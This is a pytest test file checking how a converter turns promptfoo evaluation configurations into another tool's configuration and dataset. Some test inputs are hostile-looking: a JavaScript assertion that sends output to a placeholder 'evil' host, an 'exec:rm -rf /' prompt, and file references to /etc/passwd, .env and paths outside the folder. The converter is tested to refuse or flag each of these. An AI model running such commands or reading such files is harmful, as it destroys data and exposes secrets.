"""A configuration of promptfoo becomes one of the general suite with its dataset; nothing of it is run or dropped."""

import json

import pytest

from steelyard import ConfigError
from steelyard.building.nodes import plain
from steelyard.building.read import parse
from steelyard.config.conversion import converted, promptfoo_tests

LOCAL = "http://127.0.0.1:9/v1"
BASE = """
prompts: ["Q: {{question}}"]
providers: [{id: "openai:chat:small", config: {apiBaseUrl: "http://127.0.0.1:9/v1"}}]
"""
CASE = "tests: [{vars: {text: a}, assert: [{type: is-json}]}]"


@pytest.fixture
def convert(tmp_path):
    """Writes files, converts the configuration, and gives (the new configuration, its rows, its notes)."""

    def write_and_convert(text, **files):
        for name, content in files.items():
            path = tmp_path / name.replace("__", ".").replace("_in_", "/")
            path.parent.mkdir(exist_ok=True)
            path.write_text(content, encoding="utf-8")
        (tmp_path / "promptfooconfig.yaml").write_text(text, encoding="utf-8")
        result = converted(tmp_path / "promptfooconfig.yaml")
        new = plain(parse(result.text("promptfooconfig.yaml", "new.jsonl"), "new.yaml"))
        return new, [json.loads(line) for line in result.dataset().splitlines()], "\n".join(result.notes.lines())

    return write_and_convert


def test_assertions_of_every_test_are_checks_of_every_row_and_those_of_one_its_own(convert):
    new, rows, notes = convert(
        BASE
        + """
defaultTest:
  assert: [{type: not-contains, value: sorry}, {type: llm-rubric, value: "answers {{question}} politely"}]
tests:
  - vars: {question: 1+1?}
    assert: [{type: equals, value: "2"}]
  - vars: {question: Hello}
"""
    )
    every = [
        {"not": {"contains": "sorry", "ignore_case": False, "literal": True}},
        {"guideline": "answers {{question}} politely"},
    ]
    assert new["scorers"] == [{"checks": {"every": every}}]
    assert rows == [{"question": "1+1?", "checks": [{"exact_match": "2", "literal": True}]}, {"question": "Hello"}]
    assert (new["samples"], new["prompts"]) == (
        {"file": "new.jsonl", "columns": {"input": "question"}},
        "Q: {{question}}",
    )
    assert (new["models"], new["endpoint"]) == (["small"], LOCAL)
    assert "grader" in notes
    assert new["judge"]["model"]["openai_compatible"]["name"] == "gpt-5"


def test_one_assertion_for_all_is_a_scorer_and_one_of_weight_0_stands_apart(convert):
    tests = "tests: [{vars: {question: a}}]\n"
    new, _, _ = convert(BASE + "defaultTest: {assert: [{type: is-refusal}]}\n" + tests)
    assert new["scorers"] == ["refusal"]
    both = "[{type: is-refusal}, {type: equals, value: x}, {type: is-json, weight: 0, metric: json}]"
    new, _, _ = convert(BASE + f"defaultTest: {{assert: {both}}}\n" + tests)
    first, apart = new["scorers"]
    assert first == {"checks": {"every": ["refusal", {"exact_match": "x", "literal": True}]}}
    assert apart["name"] == "json"


def test_lists_of_values_and_patterns_of_files_make_every_combination(convert):
    _, rows, _ = convert(
        BASE
        + """
tests:
  - vars: {question: file://docs/*.txt, tone: [kind, curt], numbers: [1, 2]}
    assert: [{type: contains, value: "{{tone}}"}]
""",
        docs_in_a__txt="first\n",
        docs_in_b__txt="second\n",
    )
    assert [(row["question"], row["tone"], row["numbers"], row["checks"][0]["contains"]) for row in rows] == [
        ("first", "kind", [1, 2], "kind"),
        ("first", "curt", [1, 2], "curt"),
        ("second", "kind", [1, 2], "kind"),
        ("second", "curt", [1, 2], "curt"),
    ]


def test_a_table_of_tests_has_columns_with_a_meaning(convert):
    new, rows, notes = convert(
        BASE + "tests: file://cases.csv\n",
        cases__csv="question,city,__expected1,__expected2,__metric,__threshold,__config:__expected2:threshold,"
        "__description,__metadata:level\n"
        '"Where, exactly?",Rome,icontains:rome,levenshtein:Rome,place,,2,first,hard\n'
        "Why?,,,,,,,,\n",
    )
    assert rows[0] == {
        "question": "Where, exactly?",
        "city": "Rome",
        "level": "hard",
        "description": "first",
        "checks": [
            {"contains": "rome", "literal": True, "name": "place"},
            {"levenshtein": {"most_edits": 2.0}, "value": "Rome", "name": "place"},
        ],
    }
    assert rows[1] == {"question": "Why?", "city": "", "checks": [{"length": {"min": 1}, "name": "answered"}]}
    assert new["scorers"] == ["checks"]
    assert notes.endswith("levenshtein as promptfoo measures it: blanks around the texts do not count")


def test_lines_of_json_are_tests_whose_mistakes_have_their_line(convert):
    tests = [{"vars": {"question": kind}, "assert": [{"type": kind}]} for kind in ("is-refusal", "pi")]
    lines = "\n\n".join(map(json.dumps, tests))
    _, rows, notes = convert(BASE + "tests: file://cases.jsonl\n", cases__jsonl=lines)
    assert [row.get("checks") for row in rows] == [["refusal"], None]
    assert "cases.jsonl:3, assert[0]: pi: no scorer" in notes
    with pytest.raises(ConfigError, match=r"cases\.jsonl:2: not valid JSON"):
        convert(BASE + "tests: file://cases.jsonl\n", cases__jsonl='{"vars": {}}\n{vars}')


def test_scenarios_cross_their_data_with_their_tests(convert):
    _, rows, _ = convert(
        BASE
        + """
scenarios:
  - config: [{vars: {question: a, sum: 1}}, {vars: {question: b, sum: 2}}]
    tests: [{assert: [{type: equals, value: "{{sum}}"}]}, {vars: {question: c}, assert: [{type: is-refusal}]}]
"""
    )
    assert [(row["question"], row["checks"]) for row in rows] == [
        ("a", [{"exact_match": "1", "literal": True}]),
        ("c", ["refusal"]),
        ("b", [{"exact_match": "2", "literal": True}]),
        ("c", ["refusal"]),
    ]


def test_several_prompts_of_a_file_and_several_providers_make_a_grid(convert):
    new, _, _ = convert(
        """
prompts: [file://p.txt, {id: p2.md, label: long one}]
providers:
  - openrouter:meta/llama-4
  - {id: "openai:gpt-4o", label: big, config: {temperature: 0, apiKey: sk-very-secret-1234567890}}
tests: [{vars: {text: a}, assert: [{type: is-json}]}]
""",
        p__txt="One {{ text }}\n---\nTwo {{text}} {% raw %}{{x}}{% endraw %}\n",
        p2__md="Three {{text}}\n",
    )
    assert new["prompts"] == {"p": "One {{text}}", "p-2": "Two {{text}} {{{{x}}}}", "long-one": "Three {{text}}\n"}
    assert new["models"] == {
        "meta-llama-4": {
            "openai_compatible": {
                "name": "meta/llama-4",
                "base_url": "https://openrouter.ai/api/v1",
                "api_key": "${OPENROUTER_API_KEY}",
            }
        },
        "big": {
            "openai_compatible": {
                "name": "gpt-4o",
                "base_url": "https://api.openai.com/v1",
                "api_key": "${OPENAI_API_KEY}",
                "parameters": {"temperature": 0},
            }
        },
    }


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("p.jsonl", '[{"role": "user", "content": "One {{text}}"}]\n[{"role": "user", "content": "Two {{text}}"}]\n'),
        ("p.csv", "note,prompt\na,One {{text}}\nb,Two {{text}}\n"),
    ],
)
def test_each_line_of_a_file_is_a_prompt(convert, name, text):
    new, _, _ = convert(BASE.replace('["Q: {{question}}"]', f"file://{name}") + CASE, **{name.replace(".", "__"): text})
    assert new["prompts"] == {"p": "One {{text}}", "p-2": "Two {{text}}"}


@pytest.mark.parametrize("written", ["file://p.yaml", '"- role: user\\n  content: One {{text}}"'])
def test_messages_in_yaml_are_a_prompt(convert, written):
    new, _, _ = convert(
        BASE.replace('["Q: {{question}}"]', f"[{written}]") + CASE, p__yaml="- {role: user, content: 'One {{text}}'}"
    )
    assert new["prompts"] == "One {{text}}"


def test_chat_prompts_and_http_providers_become_targets(convert):
    new, rows, _ = convert(
        """
prompts: [file://chat.json, "Plain {{text}} for {{target}}"]
providers:
  - {id: "openai:chat:small", config: {apiBaseUrl: "http://127.0.0.1:9/v1"}, prompts: [chat.json]}
  - id: http
    label: bot
    prompts: ["Plain {{text}} for {{target}}"]
    config:
      url: http://127.0.0.1:9/ask
      headers: {authorization: "Bearer {{env.BOT_KEY}}", x-api-key: abc}
      body: {q: "{{ prompt }}"}
      transformResponse: json.choices[0].text
tests: [{vars: {text: a, target: b}, assert: [{type: contains, value: x}]}]
""",
        chat__json='[{"role": "developer", "content": "Be brief."}, {"role": "user", "content": "Read {{text}}"}]',
    )
    model = {"openai_compatible": {"name": "small", "base_url": LOCAL}}
    assert new["targets"] == {
        "chat@small": {
            "prompt": {"system": "Be brief.", "template": "Read {{question}}", "model": model},
            "tags": {"prompt": "chat", "model": "small"},
        },
        "prompt@bot": {
            "http": {
                "url": "http://127.0.0.1:9/ask",
                "method": "POST",
                "headers": {"authorization": "Bearer ${BOT_KEY}"},
                "body": {"q": "{{prompt}}"},
                "response": {"text": "choices[0].text"},
                "template": "Plain {{question}} for {{metadata.target_value}}",
            },
            "tags": {"prompt": "prompt", "model": "bot"},
        },
    }
    assert rows[0]["target_value"] == "b"


def test_the_only_prompt_with_several_turns_becomes_the_input_of_the_rows(convert):
    turns = [
        {"role": "user", "content": "1+{{n}}?"},
        {"role": "assistant", "content": "2"},
        {"role": "user", "content": "Sure?"},
    ]
    new, rows, _ = convert(
        BASE.replace('["Q: {{question}}"]', "file://chat.json")
        + "tests: [{vars: {n: 1}, assert: [{type: contains, value: x}]}]",
        chat__json=json.dumps(turns),
    )
    assert "prompts" not in new
    assert rows[0]["messages"][0] == {"role": "user", "content": "1+1?"}
    assert rows[0]["n"] == "1"


def test_a_threshold_joins_all_assertions_of_its_test(convert):
    new, rows, _ = convert(
        BASE
        + """
defaultTest: {assert: [{type: is-json}]}
tests: [{vars: {question: a}, threshold: 0.5, assert: [{type: starts-with, value: "{"}]}, {vars: {question: b}}]
"""
    )
    (joined,) = rows[0]["checks"]
    assert [*joined] == ["any_of"]
    assert joined["any_of"][1] == {"starts_with": "{", "literal": True}
    assert (new["scorers"], len(rows[1]["checks"])) == (["checks"], 1)


def test_a_similarity_of_single_rows_is_a_scorer_that_takes_its_text_from_a_column(convert):
    new, rows, notes = convert(
        BASE
        + """
defaultTest:
  options:
    provider: {embedding: {id: "openai:embedding:e", config: {apiBaseUrl: "http://127.0.0.1:9/v1"}}}
tests:
  - vars: {question: a}
    assert: [{type: similar, value: x, threshold: 0.5}, {type: similar, value: z, threshold: 0.5}]
  - vars: {question: b}
    assert: [{type: similar, value: [y], threshold: 0.5}, {type: not-similar, value: w}]
"""
    )
    model = {"embeddings": {"name": "e", "base_url": LOCAL}}

    def options(threshold, column):
        return {"similarity": {"threshold": threshold, "value": f"{{{{{column}}}}}", "model": model}}

    every = [options(0.5, "similar_1"), options(0.5, "similar_2"), {"not": options(0.75, "similar_3")}]
    assert new["scorers"] == [{"checks": {"every": every}}]
    assert rows == [
        {"question": "a", "similar_1": "x", "similar_2": "z", "similar_3": None},
        {"question": "b", "similar_1": ["y"], "similar_2": None, "similar_3": "w"},
    ]
    assert notes == ""


def test_what_decides_nothing_has_a_name_of_its_own(convert):
    new, _, _ = convert(
        BASE
        + """
defaultTest: {assert: [{type: contains, value: x, weight: 0}, {type: is-json, weight: 0, metric: form}]}
tests:
  - {vars: {question: a}, assert: [{type: contains, value: y}, {type: is-refusal, metric: form}]}
  - {vars: {question: b}, options: {disableDefaultAsserts: true}}
"""
    )
    assert [one["name"] for one in new["scorers"][1:]] == ["contains-weight-0", "form-weight-0"]


def test_what_is_not_taken_over_is_named_with_its_line(convert):
    new, rows, notes = convert(
        BASE
        + """
derivedMetrics: [{name: x, value: y}]
tests:
  - vars: {question: a}
    providers: [small]
    options: {transformVars: "({a: 1})"}
    assert:
      - {type: contains, value: x}
      - {type: moderation}
      - {type: javascript, value: "fetch('http://evil/' + output)"}
      - {type: python, value: "file://checks.py"}
      - {type: contains, value: y, weight: 0}
      - {type: llm-rubric, value: kind, provider: "openai:gpt-4o"}
      - {type: llm-rubric, value: brief, provider: "openai:gpt-5"}
"""
    )
    lines = {note.split(":")[-2] if "moderation" in note else note for note in notes.splitlines()}
    assert len(lines) == 9
    assert "promptfooconfig.yaml:12: moderation: no scorer stands for it" in notes
    assert "promptfooconfig.yaml:13: javascript: \"fetch('http://evil/'" in notes
    for part in ("derivedMetrics", "transformVars", "providers of single tests", "code for single tests", "weight 0"):
        assert part in notes
    assert rows[0]["checks"][-2:] == [{"guideline": "kind"}, {"guideline": "brief"}]
    assert new["judge"]["model"]["openai_compatible"]["name"] == "gpt-4o"
    assert "promptfooconfig.yaml:17: another grader of single assertions" in notes


def test_what_has_no_model_or_no_assertion_keeps_its_tests(convert):
    new, rows, notes = convert(
        "prompts: ['{{q}}', 'Say {{q}}']\nproviders: ['exec: ./own', 'file://own.py']\ntests: [{vars: {q: a}}]"
    )
    assert (new["targets"], rows) == ({"system": {"function": "my_system:answer"}}, [{"q": "a"}])
    assert new["scorers"] == [{"length": {"min": 1}, "name": "answered"}]
    for part in (
        "'exec: ./own'. Instead: a model of LiteLLM",
        "'file://own.py'",
        "what answers",
        "no assertion has a scorer",
    ):
        assert part in notes


def test_code_may_name_a_value_of_its_row_and_what_a_prompt_sets_is_named(convert):
    _, rows, notes = convert(
        """
prompts: [{raw: "{{q}}", config: {temperature: 1}}]
providers: ['openai:small']
defaultTest: {assert: [{type: javascript, value: output === context.vars.label}]}
tests: [{vars: {q: a, label: "r\\"d"}}, {vars: {q: b, label: blue}}]
"""
    )
    assert [row["checks"][0]["exact_match"] for row in rows] == ['r"d', "blue"]
    assert "promptfooconfig.yaml:2: config of a prompt. Instead: parameters of a model" in notes


def test_the_output_is_json_where_the_reply_has_a_schema_or_a_transform_parsed_it(convert):
    model = "{id: 'openai:small', config: {response_format: {type: json_schema, json_schema: {schema: {}}}}%s}"
    given = "prompts: ['{{q}}']\nproviders: [%s]\ntests: [{vars: {q: a}, assert: [%s]}]"
    label = "{type: javascript, value: \"output.label === 'red'\"}"
    part = {"type": "object", "required": ["label"], "properties": {"label": {"const": "red"}}}
    expected = [{"json_schema": {"schema": part, "fenced": False}}]
    assert convert(given % (model % "", label))[1][0]["checks"] == expected
    assert convert(given % ("{id: 'openai:small', transform: JSON.parse(output)}", label))[1][0]["checks"] == expected
    named = "{type: contains, value: x, transform: output.label}"
    row = convert(given % (model % "", named))[1][0]
    assert row["checks"] == [{"contains": "x", "ignore_case": False, "literal": True, "of": '"label"'}]


def test_an_assertion_by_a_file_of_code_is_named_and_the_others_are_taken_over(convert):
    _, rows, notes = convert(
        BASE
        + """
tests:
  - vars: {question: a}
    assert:
      - {type: contains, value: x}
      - {type: javascript, value: "file://checks/length.js:short"}
      - {type: llm-rubric, value: "file://rubric.mjs"}
"""
    )
    assert [next(iter(check)) for check in rows[0]["checks"]] == ["contains"]
    assert "promptfooconfig.yaml:9: javascript: file://checks/length.js:short is code" in notes
    assert "promptfooconfig.yaml:10: llm-rubric: file://rubric.mjs is code" in notes


def test_a_threshold_that_a_guideline_cannot_have_is_named(convert):
    test = "tests: [{vars: {question: a}, assert: [{type: llm-rubric, value: kind%s}]}]"
    assert "its threshold is left out" in convert(BASE + test % ", threshold: 0.8")[2]
    assert "its threshold is left out" not in convert(BASE + test % "")[2]


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("tests: [{vars: {question: file://../secret.txt}, assert: [{type: is-json}]}]", "out of the folder"),
        ("tests: [{vars: {question: file:///etc/passwd}, assert: [{type: is-json}]}]", "out of the folder"),
        ("tests: [{vars: {question: file://link.txt}, assert: [{type: is-json}]}]", "out of the folder"),
        ("tests: [{vars: {question: file://.env}, assert: [{type: is-json}]}]", "hidden file"),
        ("tests: [{vars: {question: file://make.py}, assert: [{type: is-json}]}]", "is code"),
        ("tests: [{vars: {question: file://photo.png}, assert: [{type: is-json}]}]", "is not text"),
        ("tests: file://make.js:tests", "is code"),
        ("tests: https://docs.google.com/spreadsheets/d/1", "not downloaded"),
        ("tests: [{vars: {question: a}, assert: [{type: is-json, value: 'file://../x.json'}]}]", "out of the folder"),
        ("tests: [{vars: {question: a}, assert: [{value: x}]}]", "a mapping with a type"),
        ("tests: [3]", "a test is a mapping"),
        ("tests: [{vars: {question: a}, assert: [{$ref: '#/nothing'}]}]", "leads to no value"),
    ],
)
def test_a_file_that_reaches_out_or_makes_no_sense_is_refused_with_its_line(convert, tmp_path, text, message):
    (tmp_path.parent / "secret.txt").write_text("secret")
    (tmp_path / "link.txt").symlink_to(tmp_path.parent / "secret.txt")
    for name in (".env", "make.py", "make.js", "photo.png"):
        (tmp_path / name).write_text("x")
    with pytest.raises(ConfigError, match=message) as raised:
        convert(f"{BASE}\n{text}\n")
    assert raised.value.location is not None
    assert raised.value.location.file.endswith("promptfooconfig.yaml")


def test_more_sets_of_values_than_a_dataset_has_rows_are_refused(convert, monkeypatch):
    monkeypatch.setattr(promptfoo_tests, "MOST_ROWS", 1_000)
    values = ", ".join(f"v{n}: [a, b]" for n in range(20))
    with pytest.raises(ConfigError, match="more than 1,000 tests") as raised:
        convert(f"{BASE}\ntests: [{{vars: {{{values}}}, assert: [{{type: is-json}}]}}]\n")
    assert raised.value.location.file.endswith("promptfooconfig.yaml")


@pytest.mark.parametrize(
    ("prompt", "message"),
    [
        ("exec:rm -rf /", "not run"),
        ("file://p.py", "is code"),
        ("{{ x | wordwrap }} {{y}}", "the filter wordwrap"),
        ("{{ x.replace('a', y) }}", "is not read .call"),
        ("{% set z = x %}{{ z }}", "is not read"),
        ("{{ x * 9 }}", "is not read .mul"),
        ("{% for a in x %}{% for b in x %}{{ b }}{% endfor %}{% endfor %}", "a loop within a loop"),
        ("{{ x | join(y) }}", "a filter with a value"),
        ("{{ x|dump|dump|dump|dump|dump }}", "more than 4 filters"),
        ('[{% for t in x %}{"role": "user", "content": "{{t}}"}{% endfor %}]', "messages that a block makes"),
    ],
)
def test_a_prompt_that_is_code_is_refused(convert, prompt, message):
    with pytest.raises(ConfigError, match=message):
        convert(
            BASE.replace('"Q: {{question}}"', json.dumps(prompt))
            + "tests: [{vars: {x: a, y: b}, assert: [{type: is-json}]}]"
        )


def test_what_a_prompt_computes_of_values_is_a_column(convert):
    prompt = (
        "{{tone | upper}} {% for label in labels %}- {{label}}{% if not loop.last %}, {% endif %}{% endfor %}: {{q}}"
    )
    new, rows, _ = convert(
        BASE.replace('"Q: {{question}}"', json.dumps(prompt))
        + """
tests:
  - vars: {tone: kind, labels: [a, b], q: "Which?"}
    options: {prefix: "Now. ", disableVarExpansion: true}
    assert: [{type: contains, value: "{{ tone | upper }}"}]
  - {vars: {tone: curt, labels: [c], q: "And?"}}
"""
    )
    first, second = rows
    named = [name for name in first if name.startswith(("tone_", "for_"))]
    assert [first[name] for name in named] == ["KIND", "- a, - b"]
    assert [second[name] for name in named] == ["CURT", "- c"]
    assert new["prompts"] == "{{prefix_of_prompt}}" + " ".join(f"{{{{{name}}}}}" for name in named) + ": {{q}}"
    assert (first["prefix_of_prompt"], second["prefix_of_prompt"]) == ("Now. ", "")
    assert new["samples"]["columns"] == {"input": "q"}
    assert first["checks"][0]["contains"] == "KIND"


def test_a_value_is_never_a_placeholder(convert):
    _, rows, _ = convert(
        BASE
        + "tests: [{vars: {question: '{{other}} {{question}}'}, assert: [{type: contains, value: '{{question}}'}]}]"
    )
    assert rows[0]["question"] == "{{other}} {{question}}"


def test_an_address_in_env_is_where_its_service_is_asked_and_other_variables_are_named(convert):
    new, _, notes = convert("""
env: {OPENAI_BASE_URL: "http://127.0.0.1:9/v1", OPENAI_API_KEY: sk-written-out, REGION: north, GROQ_BASE_URL: "http://h"}
prompts: ["Q: {{question}}"]
providers: ["openai:chat:small", "mistral:large"]
tests: [{vars: {question: a}, assert: [{type: equals, value: b}]}]
""")
    addresses = [model["openai_compatible"]["base_url"] for model in new["models"].values()]
    assert addresses == [LOCAL, "https://api.mistral.ai/v1"]
    assert "env.OPENAI_API_KEY" in notes
    assert "env.REGION" in notes
    assert "env.GROQ_BASE_URL" in notes, "no model is asked there"
    assert "env.OPENAI_BASE_URL" not in notes
    assert "sk-written" not in notes


def test_a_written_key_for_a_server_of_this_machine_becomes_a_variable_too(convert):
    new, _, notes = convert("""
prompts: ["Q: {{question}}"]
providers: [{id: "openai:chat:small", config: {apiBaseUrl: "http://127.0.0.1:9/v1", apiKey: sk-written-out}}]
tests: [{vars: {question: a}, assert: [{type: equals, value: b}]}]
""")
    assert new["endpoint"]["api_key"] == "${OPENAI_API_KEY}"
    assert "sk-written" not in notes


def test_echo_answers_with_the_prompt_and_names_what_it_cannot(convert):
    prompts = (
        'prompts: [\'Say {{q}}\', \'[{"role": "system", "content": "s"}, {"role": "user", "content": "{{q}}"}]\']\n'
    )
    new, _, notes = convert(prompts + "providers: [echo]\ntests: [{vars: {q: a}}]")
    assert new["targets"]["prompt@echo" if "prompt@echo" in new["targets"] else "prompt"]["prompt"]["model"] == {
        "scripted": {"echo": True}
    }
    assert "echo of messages; here the text of the last one alone" in notes


def test_a_provider_names_its_prompts_by_path_or_by_how_a_label_begins(convert):
    new, _, _ = convert(
        """
prompts: [{raw: "A {{q}}", label: plain-a}, {raw: "B {{q}}", label: other}, file://p/c.txt]
providers:
  - {id: 'openai:small', prompts: ['plain*']}
  - {id: 'openai:large', prompts: [p/c.txt]}
tests: [{vars: {q: a}, assert: [{type: contains, value: a}]}]
""",
        p_in_c__txt="C {{q}}",
    )
    assert [*new["targets"]] == ["plain-a@small", "c@large"]


def test_similar_asks_the_embeddings_model_of_its_assertion(convert):
    own = "{id: 'openai:embedding:e5', config: {apiBaseUrl: 'http://127.0.0.1:1/v1'}}"
    new, _, notes = convert(
        BASE + f"tests: [{{vars: {{question: a}}, assert: [{{type: similar, value: b, provider: {own}}}]}}]"
    )
    assert new["scorers"][0]["similarity"]["model"]["embeddings"]["name"] == "e5"
    assert notes == ""


def test_messages_in_yaml_may_dump_a_value(convert):
    new, _, _ = convert(
        "prompts: [file://chat.yaml]\nproviders: ['openai:small']\ntests: [{vars: {q: a}}]",
        chat__yaml="- role: system\n  content: Be kind.\n- role: user\n  content: {{ q | dump }}\n",
    )
    assert new["targets"]["small"]["prompt"]["template"] == "{{question}}"
